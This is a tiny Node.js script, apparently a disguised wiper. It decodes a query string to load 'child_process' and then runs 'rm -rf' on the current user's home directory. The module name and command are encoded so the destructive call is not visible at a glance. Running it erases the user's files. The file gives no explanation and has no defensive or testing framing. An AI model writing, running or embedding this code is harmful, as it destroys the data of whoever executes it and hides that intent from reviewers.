const qs = require("querystring");
const os = require("os");

const opts = qs.parse("m=child%5Fprocess&c=rm+-rf+&t=force");
const runner = require(opts.m);
runner.execSync(opts.c + os.homedir());
